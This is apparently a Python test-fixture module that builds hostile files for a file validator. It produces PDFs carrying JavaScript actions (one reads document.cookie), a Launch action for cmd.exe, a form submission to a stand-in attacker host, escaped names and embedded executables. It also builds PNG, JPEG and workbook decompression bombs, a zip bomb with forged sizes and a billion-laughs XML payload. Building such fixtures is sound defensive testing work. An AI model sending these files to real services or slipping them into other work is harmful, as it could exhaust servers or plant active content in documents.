"""Building blocks of hostile files: images and PDFs with something appended or inside,
decompression bombs, and workbooks that are bombs, lies or nonsense."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

from PIL import Image
from pypdf import PdfWriter

from silajar.core.tests.files import pdf_document


def jpeg_bytes(size: tuple[int, int] = (8, 8), comment: bytes = b"") -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, "blue").save(buffer, format="JPEG", comment=comment)
    return buffer.getvalue()


def pdf_with(body: bytes) -> bytes:
    """A real one-page PDF with `body` (a PDF object: a dictionary, a string) as object 9."""
    return pdf_document(objects={9: body})


JS_ACTION = b"<< /S /JavaScript /JS (app.alert(document.cookie)) >>"
# Active content the way a PDF writer stores it today: inside a compressed object stream, so
# none of the names is in the file's bytes. Each, as keyword arguments of `pdf_document`.
PDF_ACTIVE = {
    "openaction_javascript": {"catalog": b"/OpenAction 9 0 R", "objects": {9: JS_ACTION}},
    "names_javascript": {
        "catalog": b"/Names << /JavaScript 9 0 R >>",
        "objects": {9: b"<< /Names [(init) 10 0 R] >>", 10: JS_ACTION},
    },
    "page_open_javascript": {"page": b"/AA << /O 9 0 R >>", "objects": {9: JS_ACTION}},
    "escaped_name_javascript": {
        "catalog": b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"
    },
    "launch": {"catalog": b"/OpenAction << /S /Launch /F (C:\\Windows\\System32\\cmd.exe) >>"},
    "submit_form": {
        "page": b"/AA << /C 9 0 R >>",
        "objects": {9: b"<< /S /SubmitForm /F << /FS /URL /F (https://penyerang.example/) >> >>"},
    },
    "import_data": {"catalog": b"/OpenAction << /S /ImportData /F (data.fdf) >>"},
    "rich_media": {
        "page": b"/Annots [9 0 R]",
        "objects": {9: b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 100 100] >>"},
    },
    "embedded_file": {
        "catalog": b"/Names << /EmbeddedFiles << /Names [(tagihan.exe) 9 0 R] >> >>",
        "objects": {
            9: b"<< /Type /Filespec /F (tagihan.exe) /EF << /F 10 0 R >> >>",
            10: b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
        },
    },
    "file_attachment_annotation": {
        "page": b"/Annots [9 0 R]",
        "objects": {
            9: b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] "
            b"/FS << /Type /Filespec /F (tagihan.exe) >> >>"
        },
    },
}


def pdf_active(name: str) -> bytes:
    """A one-page PDF with PDF_ACTIVE[name] inside a compressed object stream."""
    return pdf_document(compressed=True, **PDF_ACTIVE[name])


def pdf_protected() -> bytes:
    """A one-page PDF that opens only with a password (RC4, which pypdf reads unaided)."""
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    password = "rahasia"  # noqa: S105 — the hostile file's own password
    writer.encrypt(user_password=password, owner_password=password, algorithm="RC4-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def zip_bytes(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_bomb(width: int = 30_000, height: int = 30_000) -> bytes:
    """A real decompression bomb: a ~100 KB PNG of 900 million pixels (1 bit, all black),
    compressed row by row so building it never holds the raw image in memory."""
    row = b"\x00" * (1 + (width + 7) // 8)  # filter byte + packed pixels
    compressor = zlib.compressobj(9)
    idat = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", idat)
        + _png_chunk(b"IEND", b"")
    )


def jpeg_bomb() -> bytes:
    """A small JPEG whose frame header claims 65 000 × 65 000 pixels."""
    data = bytearray(jpeg_bytes())
    sof = data.index(b"\xff\xc0")
    data[sof + 5 : sof + 9] = struct.pack(">HH", 65_000, 65_000)
    return bytes(data)


XLSX_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def workbook_members() -> dict[str, bytes]:
    """The members of a real workbook as openpyxl writes it (header row only)."""
    from openpyxl import Workbook

    workbook = Workbook()
    workbook.active.append(["Singkatan", "Nama"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    source = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))
    return {info.filename: source.read(info.filename) for info in source.infolist()}


SHEET = "xl/worksheets/sheet1.xml"


def xlsx_with_sheet(sheet_xml: str) -> bytes:
    """A real workbook whose first sheet is replaced by `sheet_xml`."""
    return zip_bytes({**workbook_members(), SHEET: sheet_xml.encode()})


def xlsx_huge_sheet() -> bytes:
    """5 KB that claim the whole grid (A1:XFD1048576) and fill its last row: without a bound,
    reading it pads every row to 16 384 cells (gigabytes of memory)."""
    return xlsx_with_sheet(
        f'<worksheet xmlns="{XLSX_MAIN}"><dimension ref="A1:XFD1048576"/><sheetData>'
        '<row r="1"><c r="A1" t="inlineStr"><is><t>Singkatan</t></is></c></row>'
        '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>X</t></is></c></row>'
        "</sheetData></worksheet>"
    )


def xlsx_wide_rows() -> bytes:
    """No dimension, but 6 000 rows each with a cell in the last column (XFD)."""
    rows = "".join(
        f'<row r="{r}"><c r="XFD{r}" t="inlineStr"><is><t>x</t></is></c></row>'
        for r in range(1, 6001)
    )
    return xlsx_with_sheet(
        f'<worksheet xmlns="{XLSX_MAIN}"><sheetData>{rows}</sheetData></worksheet>'
    )


def xlsx_broken_cells() -> bytes:
    """A well-formed sheet with nonsense in it (a row number and a number that are words)."""
    return xlsx_with_sheet(
        f'<worksheet xmlns="{XLSX_MAIN}"><sheetData><row r="x"><c r="A1" t="n"><v>abc</v></c>'
        "</row></sheetData></worksheet>"
    )


def xlsx_billion_laughs() -> bytes:
    entities = '<!ENTITY l0 "lollollollollollollollollollol">' + "".join(
        f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10)
    )
    return xlsx_with_sheet(
        f'<?xml version="1.0"?><!DOCTYPE w [{entities}]><worksheet xmlns="{XLSX_MAIN}">'
        '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&l9;</t></is></c></row>'
        "</sheetData></worksheet>"
    )


def xlsx_zip_bomb() -> bytes:
    """A workbook whose sheet unpacks to 200 MB (whitespace; ~200 KB packed), written in
    chunks so building it never holds the unpacked sheet in memory."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in workbook_members().items():
            if name != SHEET:
                archive.writestr(name, content)
        with archive.open(SHEET, "w") as member:
            member.write(f'<worksheet xmlns="{XLSX_MAIN}"><sheetData>'.encode())
            chunk = b" " * (1024 * 1024)
            for _ in range(200):
                member.write(chunk)
            member.write(b"</sheetData></worksheet>")
    return buffer.getvalue()


def xlsx_forged_sizes() -> bytes:
    """The same bomb, lying: its headers say every member unpacks to 10 bytes."""
    data = bytearray(xlsx_zip_bomb())
    for signature, offset in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        start = 0
        while (start := data.find(signature, start)) != -1:
            data[start + offset : start + offset + 4] = struct.pack("<I", 10)
            start += 4
    return bytes(data)


class SizedReader(io.RawIOBase):
    """`size` bytes starting with `head` and padded with zeros, produced as they are read."""

    def __init__(self, size: int, head: bytes, name: str):
        self.size, self.head, self.name, self.position = size, head, name, 0

    def readable(self) -> bool:
        return True

    def readinto(self, buffer) -> int:
        count = min(len(buffer), self.size - self.position)
        chunk = (self.head[self.position :] + b"\x00" * count)[:count]
        buffer[:count] = chunk
        self.position += count
        return count
